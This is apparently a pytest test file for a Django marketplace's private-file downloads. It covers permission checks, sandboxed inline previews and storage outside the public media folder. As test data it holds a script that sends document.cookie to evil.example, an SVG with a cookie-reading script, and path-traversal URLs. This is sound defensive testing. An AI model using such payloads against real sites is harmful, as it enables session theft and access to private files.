"""Private files — deliveries, message attachments, attachments of invite-only gigs — are kept
outside MEDIA_ROOT and leave the storage only through their download views, after the same
permission check as the object they belong to; and never as a page a browser would render: only
images and PDFs whose bytes were checked open in the browser, sandboxed."""

from __future__ import annotations

import importlib
from pathlib import Path

import pytest
from django.contrib.auth.models import Group
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import clear_url_caches

from accounts.roles import MODERATORS, ensure_role_groups
from marketplace.storage import private_storage
from projects.models import Gig, GigInvitation
from projects.services import milestones as milestone_services
from projects.services.contracts import message_post
from projects.services.gigs import gig_attachment_add
from tests.accounts.factories import UserFactory
from tests.conftest import client_for, english_client
from tests.pages.conftest import browser
from tests.projects.factories import ContractFactory, GigFactory, top_up
from tests.samples import PDF

pytestmark = pytest.mark.django_db

# A text file whose content is a page with a script: served inline, it would run in our origin.
PAGE = b"<html><body><script>document.location='https://evil.example/?'+document.cookie</script>"
ACTORS = ["anonymous", "stranger", "other_party", "uploader", "moderator"]


@pytest.fixture(autouse=True)
def _fresh_storage(settings):
    settings.STORAGES = {**settings.STORAGES}


def moderator():
    ensure_role_groups()
    user = UserFactory(is_staff=True)
    user.groups.add(Group.objects.get(name=MODERATORS))
    return user


def delivery_file() -> tuple[str, dict, bytes, str]:
    contract = ContractFactory()
    top_up(contract.client, 200_000)
    milestone = contract.milestones.get()
    milestone_services.milestone_fund(milestone_id=milestone.pk, actor=contract.client)
    milestone_services.milestone_submit(
        milestone_id=milestone.pk,
        actor=contract.freelancer,
        note="Logo final.",
        files=[SimpleUploadedFile("logo-final.pdf", PDF)],
    )
    stored = milestone.deliveries.get().files.get()
    url = f"/api/v1/contracts/{contract.pk}/deliveries/files/{stored.pk}/"
    people = {"uploader": contract.freelancer, "other_party": contract.client}
    return url, people, PDF, stored.file.name


def message_attachment() -> tuple[str, dict, bytes, str]:
    contract = ContractFactory()
    message = message_post(
        contract_id=contract.pk,
        actor=contract.client,
        body="Contoh yang saya suka.",
        files=[SimpleUploadedFile("contoh.txt", PAGE)],
    )
    stored = message.attachments.get()
    url = f"/api/v1/contracts/{contract.pk}/messages/attachments/{stored.pk}/"
    people = {"uploader": contract.client, "other_party": contract.freelancer}
    return url, people, PAGE, stored.file.name


def invite_only_gig_attachment() -> tuple[str, dict, bytes, str]:
    gig = GigFactory(visibility=Gig.Visibility.INVITE_ONLY)
    invited = UserFactory()
    GigInvitation.objects.create(gig=gig, freelancer=invited)
    stored = gig_attachment_add(
        gig_id=gig.pk, actor=gig.client, upload=SimpleUploadedFile("brief.pdf", PDF)
    )
    url = f"/api/v1/gigs/{gig.pk}/attachments/{stored.pk}/"
    # The other party of an invite-only gig is the freelancer invited to bid on it.
    people = {"uploader": gig.client, "other_party": invited}
    return url, people, PDF, stored.file.name


KINDS = {
    "delivery": (delivery_file, {"anonymous": 401, "stranger": 404}),
    "message-attachment": (message_attachment, {"anonymous": 401, "stranger": 404}),
    # Gig attachments are read like the gig: anonymous readers are let in, then find nothing.
    "invite-only-gig-attachment": (
        invite_only_gig_attachment,
        {"anonymous": 404, "stranger": 404},
    ),
}


@pytest.mark.parametrize("query", ["?download=null", "?download=yes", "?download=1&download=1"])
@pytest.mark.parametrize("kind", list(KINDS))
def test_a_download_value_other_than_the_documented_ones_is_a_400(kind, query):
    make, _refusals = KINDS[kind]
    url, people, _content, _name = make()
    uploader = next(iter(people.values()))

    response = client_for(uploader).get(url + query)

    assert response.status_code == 400
    assert response.json()["fields"] == {
        "download": ["Use download=1 to save the file, or leave it out."]
    }
    assert not hasattr(response, "streaming_content")
    for accepted in ("?download=true", "?download=0", "?download=FALSE"):
        assert client_for(uploader).get(url + accepted).status_code == 200


@pytest.mark.parametrize("actor", ACTORS)
@pytest.mark.parametrize("kind", list(KINDS))
def test_who_may_download_a_private_file(kind, actor):
    make, refusals = KINDS[kind]
    url, people, content, _name = make()
    people = {**people, "stranger": UserFactory(), "moderator": moderator()}
    client = english_client() if actor == "anonymous" else client_for(people[actor])

    response = client.get(url + "?download=1")

    expected = refusals.get(actor, 200)
    assert response.status_code == expected
    if expected != 200:
        assert not hasattr(response, "streaming_content")
        # The same answer as for a file that does not exist: nothing tells it is there.
        missing = client.get(url.rstrip("/").rsplit("/", 1)[0] + "/999999/?download=1")
        assert (missing.status_code, missing.json()) == (expected, response.json())
        return
    assert b"".join(response.streaming_content) == content
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert response["Cache-Control"] == "private, no-store"


@pytest.mark.parametrize("actor", ACTORS)
@pytest.mark.parametrize("kind", list(KINDS))
def test_who_may_open_a_private_file_in_the_browser(kind, actor):
    # The preview is the same file behind the same check: a stranger learns nothing more.
    make, refusals = KINDS[kind]
    url, people, content, _name = make()
    people = {**people, "stranger": UserFactory(), "moderator": moderator()}
    client = english_client() if actor == "anonymous" else client_for(people[actor])

    response = client.get(url)

    expected = refusals.get(actor, 200)
    assert response.status_code == expected
    if expected != 200:
        assert not hasattr(response, "streaming_content")
        return
    assert b"".join(response.streaming_content) == content
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "private, no-store"
    if content == PDF:
        assert response["Content-Type"] == "application/pdf"
        assert response["Content-Disposition"].startswith("inline;")
        assert response["Content-Security-Policy"] == "sandbox"
    else:  # the page with a script, named .txt: never shown
        assert response["Content-Type"] == "application/octet-stream"
        assert response["Content-Disposition"].startswith("attachment;")
        assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"


def delivered(name: str, content: bytes) -> tuple[str, object]:
    """A file delivered under ``name``, stored straight (as a file kept from before the upload
    checks would be), and the URL its parties open it at."""
    contract = ContractFactory()
    top_up(contract.client, 200_000)
    milestone = contract.milestones.get()
    milestone_services.milestone_fund(milestone_id=milestone.pk, actor=contract.client)
    milestone_services.milestone_submit(
        milestone_id=milestone.pk,
        actor=contract.freelancer,
        note="Hasil.",
        files=[SimpleUploadedFile("hasil.pdf", PDF)],
    )
    stored = milestone.deliveries.get().files.get()
    private_storage().delete(stored.file.name)
    assert private_storage().save(stored.file.name, ContentFile(content)) == stored.file.name
    stored.original_name = name
    stored.save(update_fields=["original_name"])
    return f"/api/v1/contracts/{contract.pk}/deliveries/files/{stored.pk}/", contract.client


PNG_BYTES = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 20
IMAGES = {
    "png": (PNG_BYTES, "image/png"),
    "jpeg": (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 20, "image/jpeg"),
    "gif": (b"GIF89a\x01\x00\x01\x00" + b"\x00" * 20, "image/gif"),
    "webp": (b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 20, "image/webp"),
}


@pytest.mark.parametrize("kind", list(IMAGES))
def test_a_delivered_image_opens_in_the_browser_with_the_type_its_bytes_show(kind):
    content, content_type = IMAGES[kind]
    # The name claims another type: the bytes decide.
    url, client = delivered("hasil.txt", content)

    response = client_for(client).get(url)

    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == 'inline; filename="hasil.txt"'
    assert response["X-Content-Type-Options"] == "nosniff"
    # Nothing may load or run; only the browser's own image page keeps its styles.
    assert response["Content-Security-Policy"] == (
        "sandbox; default-src 'none'; style-src 'unsafe-inline'"
    )
    assert b"".join(response.streaming_content) == content


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("logo.svg", SVG),
        ("logo.png", SVG),  # an SVG under an image's name
        ("index.html", PAGE),
        ("hasil.pdf", PAGE),  # a page under a PDF's name
        ("data.bin", b"\x00\x01\x02 not a known type"),
        ("hasil.png", b"RIFF\x24\x00\x00\x00AVI LIST"),  # RIFF, but not WebP
    ],
)
def test_what_is_not_a_checked_image_or_pdf_always_downloads(name, content):
    url, client = delivered(name, content)

    response = client_for(client).get(url)

    assert response.status_code == 200
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert b"".join(response.streaming_content) == content


@pytest.mark.parametrize("kind", list(IMAGES))
def test_download_one_saves_a_previewable_file(kind):
    content, _content_type = IMAGES[kind]
    url, client = delivered("hasil.png", content)

    response = client_for(client).get(url + "?download=1")

    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"] == 'attachment; filename="hasil.png"'
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"


def test_the_contract_page_offers_to_open_and_to_download_a_delivered_file():
    url, client = delivered("hasil.png", IMAGES["png"][0])
    contract_id = url.split("/")[4]

    page = browser(client).get(f"/contracts/{contract_id}/").content.decode()

    assert f'<a href="{url}">hasil.png</a>' in page
    assert f'<a href="{url}?download=1" download>Download</a>' in page


@pytest.mark.parametrize("kind", list(KINDS))
def test_a_private_file_is_kept_in_the_private_storage_under_a_random_name(kind):
    make, _refusals = KINDS[kind]
    _url, _people, content, name = make()

    assert private_storage().exists(name)
    assert not default_storage.exists(name)  # nothing of it where /media/ would look
    with private_storage().open(name, "rb") as stored:
        assert stored.read() == content
    assert len(Path(name).stem) == 32  # a uuid4: 122 random bits, not the person's file name
    with pytest.raises(ValueError, match="private file and has no public URL"):
        private_storage().url(name)


@pytest.fixture
def on_disk(settings, tmp_path):
    """Real folders: public media and private files side by side, as a deployment has them."""
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {"BACKEND": "django.core.files.storage.FileSystemStorage"},
        "private": {
            "BACKEND": "marketplace.storage.PrivateFileSystemStorage",
            "OPTIONS": {"location": tmp_path / "private"},
        },
    }
    return tmp_path


@pytest.fixture
def debug_urls(settings):
    """The URLs as a DEBUG run (``make run``) builds them."""
    import marketplace.urls

    settings.DEBUG = True
    importlib.reload(marketplace.urls)
    clear_url_caches()
    yield
    settings.DEBUG = False
    importlib.reload(marketplace.urls)
    clear_url_caches()


@pytest.mark.parametrize("kind", list(KINDS))
def test_no_media_url_serves_a_private_file_with_debug_on(on_disk, debug_urls, kind):
    make, _refusals = KINDS[kind]
    _url, _people, content, name = make()
    assert (on_disk / "private" / name).read_bytes() == content  # really on the disk
    anonymous = english_client()

    for path in (
        f"/media/{name}",
        f"/media/../private/{name}",
        f"/media/%2e%2e/private/{name}",
        f"/private/{name}",
    ):
        response = anonymous.get(path)
        assert response.status_code == 404, path
        assert content not in response.content


def test_files_uploaded_before_private_storage_are_moved_there(settings):
    # Migration projects.0009 moves what the old code kept under MEDIA_ROOT.
    from django.apps import apps

    migration = importlib.import_module("projects.migrations.0009_private_uploads")
    url, people, content, name = message_attachment()
    with private_storage().open(name, "rb") as stored:
        old = stored.read()
    private_storage().delete(name)
    default_storage.save(name, SimpleUploadedFile("x", old))

    migration.move_to_private_storage(apps, None)

    assert not default_storage.exists(name)
    response = client_for(people["other_party"]).get(url)
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == content
